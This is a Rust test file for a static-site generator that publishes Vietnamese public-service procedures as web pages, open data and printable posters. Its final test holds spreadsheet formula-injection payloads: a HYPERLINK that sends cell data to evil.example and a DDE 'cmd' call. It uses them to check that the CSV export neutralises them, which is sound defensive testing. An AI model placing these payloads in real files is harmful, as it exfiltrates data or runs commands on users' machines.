//! Building small, purpose-made content trees: what the model must carry through to pages.

use crate::util::*;
use unicode_normalization::UnicodeNormalization;

fn build_one(record: &str, name: &str) -> (tempfile::TempDir, std::path::PathBuf) {
    let tmp = tempfile::tempdir().expect("tmp");
    let content = content_tree(tmp.path(), &[(name, record)]);
    let out = tmp.path().join("out");
    build(&content, &out);
    (tmp, out)
}

#[test]
fn full_record_renders_every_part() {
    let (_tmp, out) = build_one(FULL_RECORD, "ho-tich/khai-sinh.md");
    let html = read(&out.join("thu-tuc/dang-ky-khai-sinh/index.html"));
    for expected in [
        "Làm giấy khai sinh cho con",
        "Tên thủ tục: Thủ tục đăng ký khai sinh",
        "Mã thủ tục: <strong>1.001193</strong>",
        "Trực tuyến toàn trình",
        // the portal link uses the portal's own id when the record has one
        "href=\"https://dichvucong.gov.vn/thu-tuc?ma=1.001193.000.00.00.H42\"",
        "Giấy khai sinh (bản chính)",
        "<caption>Trường hợp trẻ bị bỏ rơi</caption>",
        "Xuất trình bản chính để đối chiếu",
        "Có thể thay bằng: Văn bản của người làm chứng xác nhận về việc sinh",
        "Mẫu: TP-HT-2020-TKKS",
        "Phí, lệ phí: <strong>Miễn phí</strong>",
        "8.000 đồng/bản",
        "Miễn, giảm: Trẻ em thuộc hộ nghèo",
        "2.000 đồng/trang (trang 1–2); 1.000 đồng/trang (từ trang 3); tối đa 200.000 đồng/bản",
        "Chưa có thông tin mức thu",
        "1 ngày làm việc (nhận sau 15 giờ thì trả trong ngày làm việc tiếp theo)",
        "Theo thời gian chuyển phát",
        "<p class=\"branch-case\">Nộp trực tuyến</p>",
        "Đăng nhập Cổng Dịch vụ công",
        "Văn bản thỏa thuận có công chứng",
        "<li>60/2014/QH13 Luật Hộ tịch, ban hành ngày 20/11/2014 (Quốc hội)</li>",
        "<li>Sửa đổi, bổ sung: 1872/QĐ-BTP ngày 30/06/2025 của Bộ Tư pháp; hiệu lực từ 01/07/2025</li>",
        "Cập nhật lần cuối: <time datetime=\"2026-10-31\">31/10/2026</time>",
        "<h2>Cần chuẩn bị</h2>",
        "Cơ quan phối hợp: Công an cấp xã",
        "Bộ phận Một cửa, UBND phường Thử",
    ] {
        assert!(html.contains(expected), "missing: {expected}");
    }
    // an unknown amount is never shown as zero
    assert!(
        !html.contains(" 0 đồng") && !html.contains(">0 đồng"),
        "no zero amount"
    );
}

#[test]
fn nfd_input_is_published_as_nfc() {
    let nfd: String = FULL_RECORD.nfd().collect();
    assert_ne!(nfd, FULL_RECORD);
    let (_tmp, out) = build_one(&nfd, "ho-tich/khai-sinh.md");
    let html = read(&out.join("thu-tuc/dang-ky-khai-sinh/index.html"));
    assert!(
        html.contains("Làm giấy khai sinh cho con"),
        "NFC text on the page"
    );
    let nfc: String = html.nfc().collect();
    assert_eq!(html, nfc, "page is entirely NFC");
}

#[test]
fn yaml_record_with_anchors_builds() {
    let record = r#"ma_thu_tuc: 2.000635
ten_thu_tuc: Thủ tục chứng thực chữ ký trong giấy tờ, văn bản
linh_vuc: Chứng thực
trinh_tu_thuc_hien:
  - ten: Nộp hồ sơ
cach_thuc_thuc_hien:
  - &truc_tiep
    hinh_thuc: Trực tiếp
    thoi_han: { don_vi: khác, mo_ta: Trong ngày làm việc }
    phi_le_phi: &phi
      - loai: Phí
        muc_thu: 10000
        don_vi: trường hợp
  - <<: *truc_tiep
    hinh_thuc: Dịch vụ bưu chính
thanh_phan_ho_so:
  - giay_to: [{ ten: Giấy tờ cần chứng thực chữ ký, ban_chinh: 1 }]
doi_tuong_thuc_hien: [Công dân Việt Nam]
co_quan_thuc_hien: Ủy ban nhân dân cấp xã
ket_qua_thuc_hien: [Giấy tờ được chứng thực chữ ký]
"#;
    let (_tmp, out) = build_one(record, "chung-thuc/chu-ky.yaml");
    let html = read(&out.join("thu-tuc/chung-thuc-chu-ky-trong-giay-to-van-ban/index.html"));
    // unquoted code read as a number keeps its six decimals
    assert!(html.contains("Mã thủ tục: <strong>2.000635</strong>"));
    // two channels with the same fees (an alias): said once in the summary, and in each
    // channel's part of the fees section (of the visible page: the JSON-LD in the head
    // carries the fees as offers too)
    let body = &html[html.find("<main").expect("main")..];
    assert_eq!(
        body.matches("10.000 đồng/trường hợp").count(),
        3,
        "alias reused fees"
    );
    assert!(html.contains("<h3>Dịch vụ bưu chính</h3>"));
}

#[test]
fn slugs_strip_the_common_prefix_and_collisions_get_the_code() {
    let a = FULL_RECORD.to_owned();
    let b = FULL_RECORD
        .replace("\"1.001193\"", "\"1.001999\"")
        .replace("ma_cong_dich_vu_cong: \"1.001193.000.00.00.H42\"\n", "");
    let tmp = tempfile::tempdir().expect("tmp");
    let content = content_tree(tmp.path(), &[("a.md", &a), ("b.md", &b)]);
    let out = tmp.path().join("out");
    let o = build(&content, &out);
    assert!(out.join("thu-tuc/dang-ky-khai-sinh/index.html").is_file());
    assert!(out
        .join("thu-tuc/dang-ky-khai-sinh-1-001999/index.html")
        .is_file());
    assert!(text(&o).contains("trùng với"), "collision is a warning");
}

#[test]
fn site_templates_override_the_theme() {
    let tmp = tempfile::tempdir().expect("tmp");
    let content = content_tree(tmp.path(), &[("a.md", FULL_RECORD)]);
    std::fs::create_dir_all(tmp.path().join("templates")).expect("mkdir");
    std::fs::write(
        tmp.path().join("templates/contact.html"),
        "{% extends \"base.html\" %}{% block content %}<h1>Liên hệ riêng của phường</h1>{% endblock content %}",
    )
    .expect("write");
    let out = tmp.path().join("out");
    build(&content, &out);
    assert!(read(&out.join("lien-he/index.html")).contains("Liên hệ riêng của phường"));
    assert!(
        read(&out.join("index.html")).contains("Theo lĩnh vực"),
        "others from the theme"
    );
}

/// Text pasted from the portal: multi-line steps with "- " and "+ " items, notes on two
/// lines, a condition with a line break. Every output keeps the lines; none shows markup.
#[test]
fn multi_line_portal_text_keeps_its_lines_and_never_shows_markup() {
    let record = FULL_RECORD
        .replace(
            "    mo_ta: Người đi đăng ký khai sinh nộp hồ sơ.\n",
            "    mo_ta: |\n      Người đi đăng ký nộp hồ sơ:\n      - Tờ khai <b>đầy đủ</b>;\n      + ký tên;\n      + ghi ngày.\n      - Giấy chứng sinh.\n\n      Nộp tại Bộ phận Một cửa.\n",
        )
        .replace(
            "        ghi_chu: Do cơ sở y tế cấp\n",
            "        ghi_chu: |\n          Do cơ sở y tế cấp.\n          Bản sao không được chấp nhận.\n",
        )
        .replace(
            "  - Đăng ký trong 60 ngày kể từ ngày sinh\n",
            "  - \"Đăng ký trong 60 ngày\\nkể từ ngày sinh\"\n",
        );
    let (_tmp, out) = build_one(&record, "ho-tich/khai-sinh.md");
    let html = read(&out.join("thu-tuc/dang-ky-khai-sinh/index.html"));
    assert!(!html.contains("&lt;br"), "a literal <br> on the page");
    assert!(
        html.contains("<p>Người đi đăng ký nộp hồ sơ:</p><ul><li>Tờ khai &lt;b&gt;đầy đủ&lt;/b&gt;;<ul><li>ký tên;</li><li>ghi ngày.</li></ul></li><li>Giấy chứng sinh.</li></ul><p>Nộp tại Bộ phận Một cửa.</p>"),
        "the step as paragraphs and a nested list, escaped"
    );
    assert!(html.contains("Do cơ sở y tế cấp.<br>Bản sao không được chấp nhận."));
    assert!(html.contains("Đăng ký trong 60 ngày<br>kể từ ngày sinh"));
    // Open data and JSON-LD keep the text as it was written.
    let csv = read(&out.join("du-lieu/thu-tuc.json"));
    assert!(csv.contains("Do cơ sở y tế cấp.\\nBản sao không được chấp nhận."));
    // The poster keeps the note's two lines as two lines.
    #[cfg(feature = "pdf")]
    if let Some(text) = pdf::text_of(&out.join("in/thu-tuc/dang-ky-khai-sinh/niem-yet.pdf")) {
        let lines: Vec<&str> = text.lines().map(str::trim).collect();
        let at = lines
            .iter()
            .position(|l| l.ends_with("Do cơ sở y tế cấp."))
            .unwrap_or_else(|| panic!("note's first line alone on a line:\n{text}"));
        assert!(
            lines[at + 1].starts_with("Bản sao không được chấp nhận."),
            "{text}"
        );
    }
}

/// Spreadsheets run a cell that starts with = + - @ (or a tab) as a formula: open data's
/// CSV, which the docs tell people to open in Excel, must show them as text.
#[test]
fn csv_cells_that_look_like_formulas_are_text() {
    let record = Record::new(
        "1.000001",
        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Bấm\")",
    )
    .plain("+cmd|' /C calc'!A0")
    .field("@SUM(1+1)")
    .text()
    .replace(
        "co_quan_thuc_hien: Ủy ban nhân dân cấp xã",
        "co_quan_thuc_hien: \"\\t=1+1\"",
    );
    let (_tmp, out) = build_one(&record, "a.yaml");
    let bytes = std::fs::read(out.join("du-lieu/thu-tuc.csv")).expect("csv");
    let mut r = csv::Reader::from_reader(&bytes[3..]);
    let header = r.headers().expect("header").clone();
    let row = r.records().next().expect("a row").expect("row");
    let cell = |name: &str| {
        let i = header.iter().position(|h| h == name).expect(name);
        row[i].to_owned()
    };
    assert_eq!(
        cell("ten_thu_tuc"),
        "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Bấm\")"
    );
    assert_eq!(cell("ten_than_thien"), "'+cmd|' /C calc'!A0");
    assert_eq!(cell("linh_vuc"), "'@SUM(1+1)");
    assert_eq!(cell("co_quan_thuc_hien"), "'\t=1+1");
    // Not a formula: left as it is.
    assert_eq!(cell("ma_thu_tuc"), "1.000001");
}
